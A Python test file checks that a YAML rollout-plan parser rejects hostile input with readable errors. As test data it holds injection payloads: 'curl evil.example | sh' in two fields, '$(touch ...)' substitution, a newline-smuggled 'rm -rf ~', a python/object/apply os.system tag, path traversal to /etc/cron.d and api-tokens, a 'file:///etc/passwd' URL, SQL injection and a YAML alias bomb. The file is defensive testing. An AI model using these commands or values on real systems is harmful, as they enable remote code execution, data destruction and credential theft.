"""Hostile and malformed rollout plans: each one is a PlanError naming the problem, never a crash.

Extends tests/unit/test_plan.py (ordinary mistakes) with what an attacker or a wrong
file produces: alias bombs, deep nesting, megabyte values, NUL bytes, invalid UTF-8,
Python tags, and names that would reach a shell, a URL path or a file path
(runbooks print ``curl .../projects/<project>/...`` for on-call to paste).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shadowcanary.plan import MAX_PLAN_CHARS, PlanError, RolloutPlan, load_plan, parse_plan
from tests.plan_cases import MINIMAL_PLAN as MINIMAL
from tests.plan_cases import assert_plan_error

# An error message is read by a person in a terminal: short, whatever the input was.
MAX_MESSAGE_CHARS = 4_000

_LEVELS = "abcdefg"
ALIAS_BOMB = "".join(
    f"{name}: &{name} [" + ", ".join([f"*{_LEVELS[i - 1]}" if i else '"lol"'] * 9) + "]\n"
    for i, name in enumerate(_LEVELS)
)

HOSTILE = [
    pytest.param(
        ALIAS_BOMB + MINIMAL.replace("name: checkout-gpt55", "name: *g"),
        ["name: Input should be a valid string"],
        id="alias-bomb-as-a-value",
    ),
    pytest.param(
        "name: " + "[" * 3000 + "]" * 3000 + "\nflag: f\nbaseline: b\ncandidate: c\n",
        ["nested too deeply"],
        id="deep-flow-sequence",
    ),
    pytest.param(
        MINIMAL + "escalation: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n",
        ["nested too deeply"],
        id="deep-flow-mapping",
    ),
    pytest.param(
        MINIMAL.replace("gpt-5.5", "x" * (MAX_PLAN_CHARS + 1)),
        ["far too long for a rollout plan", f"limit {MAX_PLAN_CHARS}"],
        id="huge-value",
    ),
    pytest.param(
        MINIMAL.replace("gpt-5.5", "gpt-5.5" + "x" * 300),
        ["line 4, candidate", "at most 200 characters"],
        id="long-model-name",
    ),
    pytest.param(
        MINIMAL.replace("gpt-5.2", "gpt\x00evil"),
        ["not valid YAML", "#x0000"],
        id="nul-byte",
    ),
    pytest.param(
        MINIMAL + "escalation: !!python/object/apply:os.system ['touch /tmp/sc-pwned']\n",
        ["not valid YAML", "python/object/apply"],
        id="python-tag",
    ),
    pytest.param(
        MINIMAL.replace("gpt-5.5", '"gpt\'$(touch /tmp/sc-pwned)"'),
        ["line 4, candidate", "a model name as in SHADOWCANARY_MODELS"],
        id="shell-in-model-name",
    ),
    pytest.param(
        MINIMAL.replace("gpt-5.2", '"gpt-5.2\\nrm -rf ~"'),
        ["line 3, baseline"],
        id="newline-in-model-name",
    ),
    pytest.param(
        MINIMAL + "unleash:\n  project: ../../admin/api-tokens\n",
        ["line 6, unleash.project", "an Unleash project id"],
        id="path-traversal-in-project",
    ),
    pytest.param(
        MINIMAL + 'unleash:\n  environment: "production\\"; curl evil.example | sh; \\""\n',
        ["line 6, unleash.environment", "an Unleash environment name"],
        id="shell-in-environment",
    ),
    pytest.param(
        MINIMAL.replace("checkout-gpt55", "../../etc/cron.d/x"),
        ["line 1, name", "String should match pattern"],
        id="path-in-rollout-name",
    ),
    pytest.param(
        MINIMAL.replace("checkout-gpt55", "'x; DROP TABLE rollouts; --'"),
        ["line 1, name"],
        id="sql-in-rollout-name",
    ),
    pytest.param(
        MINIMAL.replace("checkout-model", "'flag`id`'"),
        ["line 2, flag"],
        id="shell-in-flag-name",
    ),
    pytest.param(
        MINIMAL + 'escalation: "#oncall\\n```bash\\ncurl evil.example | sh\\n```"\n',
        ["line 5, escalation", "one line of at most 200 characters"],
        id="code-block-in-escalation",
    ),
    pytest.param(
        MINIMAL + "notify:\n  webhooks: ['file:///etc/passwd']\n",
        ["notify.webhooks.0", "http(s) URL"],
        id="file-url-webhook",
    ),
    pytest.param(
        MINIMAL + "stickiness: ipAddress\ntriggers:\n  error_rate: explode\n",
        ["line 5, stickiness", "userId or conversationId", "triggers.error_rate.mode"],
        id="unknown-enum-values",
    ),
    pytest.param(
        MINIMAL + "alpha: '0.01'\nsteps: ten\nexposure: [1, 2]\n",
        ["steps", "exposure"],
        id="wrong-types",
    ),
    pytest.param("", ["a rollout plan is a YAML mapping, got NoneType"], id="empty-file"),
    pytest.param("\ufeff" + "- [1, 2]\n", ["a YAML mapping, got list"], id="bom-and-a-list"),
]


@pytest.mark.parametrize(("text", "fragments"), HOSTILE)
def test_hostile_plans_are_rejected_with_a_short_clear_error(
    text: str, fragments: list[str]
) -> None:
    """Each hostile plan is a PlanError naming the field, in a message a person can read."""
    message = assert_plan_error(text, fragments, source="hostile.yaml")
    assert len(message) <= MAX_MESSAGE_CHARS, f"{len(message)} characters"
    assert not Path("/tmp/sc-pwned").exists()


def test_a_plan_file_that_is_not_utf8_is_a_plan_error(tmp_path: Path) -> None:
    """Invalid UTF-8 (a binary or Latin-1 file) names the file and the offset, no traceback."""
    path = tmp_path / "latin1.yaml"
    path.write_bytes(MINIMAL.encode() + b"escalation: caf\xe9\n")
    with pytest.raises(PlanError, match=r"latin1.yaml' is not UTF-8 text \(invalid byte at offset"):
        load_plan(path)


def test_a_directory_is_not_a_plan(tmp_path: Path) -> None:
    """Pointing at a directory is a PlanError with the OS reason."""
    with pytest.raises(PlanError, match="cannot read rollout plan"):
        load_plan(tmp_path)


def test_names_that_are_allowed_are_kept_exactly() -> None:
    """Model names with the characters real deployments use pass through unchanged."""
    plan = parse_plan(
        MINIMAL.replace("gpt-5.2", "azure/gpt-5.2@eastus:2026-01+ptu").replace(
            "gpt-5.5", "org.vllm/Llama-3.3_70B"
        )
        + "unleash: {project: payments_v2, environment: prod~eu.1}\n"
        + 'escalation: "#sre-oncall (pager: llm-platform) — ask for Zoë"\n'
    )
    assert (plan.baseline, plan.candidate) == (
        "azure/gpt-5.2@eastus:2026-01+ptu",
        "org.vllm/Llama-3.3_70B",
    )
    assert (plan.unleash.project, plan.unleash.environment) == ("payments_v2", "prod~eu.1")
    assert plan.escalation == "#sre-oncall (pager: llm-platform) — ask for Zoë"


_yaml_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True),
    st.text(max_size=40),
)
_yaml_values = st.recursive(
    _yaml_scalars,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4)
    ),
    max_leaves=20,
)
_fields = st.sampled_from(
    [*RolloutPlan.model_fields, "triggers.error_rate", "exposure.deadline", "unknown"]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(_fields, _yaml_values, max_size=6))
def test_any_mapping_is_a_plan_or_a_plan_error(overrides: dict[str, object]) -> None:
    """Fuzz: whatever values a plan's fields hold, parsing returns a plan or raises PlanError."""
    import yaml

    base: dict[str, object] = yaml.safe_load(MINIMAL)
    text = yaml.safe_dump({**base, **overrides}, allow_unicode=True)
    try:
        plan = parse_plan(text)
    except PlanError as exc:
        assert len(str(exc)) <= MAX_MESSAGE_CHARS
        return
    assert RolloutPlan.model_validate(plan.model_dump(mode="json")) == plan


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_any_text_is_a_plan_or_a_plan_error(text: str) -> None:
    """Fuzz: arbitrary text (control characters, tabs, brackets) never escapes as another error."""
    try:
        parse_plan(MINIMAL + text)
    except PlanError as exc:
        assert len(str(exc)) <= MAX_MESSAGE_CHARS


@pytest.mark.parametrize(
    "name", ["../escape", "a/b", "/etc/cron.d/x", ".hidden", "..", "", "a\x00b"]
)
def test_runbook_paths_refuse_names_that_leave_their_directory(name: str, tmp_path: Path) -> None:
    """Second line of defence behind the plan's name pattern: the runbook writer itself."""
    from runbooks.generator import runbook_path

    with pytest.raises(ValueError, match="cannot be used as a file name"):
        runbook_path(tmp_path, name)


@pytest.mark.parametrize(
    "value", ["-86399999913601", "-5", ".nan", ".inf", "P99999999D", "1e400", "-PT5M", "99999d"]
)
def test_durations_out_of_range_are_plan_errors(value: str) -> None:
    """Negative, NaN, infinite or absurd durations are refused (the fuzz found an OverflowError)."""
    with pytest.raises(PlanError, match="stale_after"):
        parse_plan(MINIMAL + f"stale_after: {value}\n")
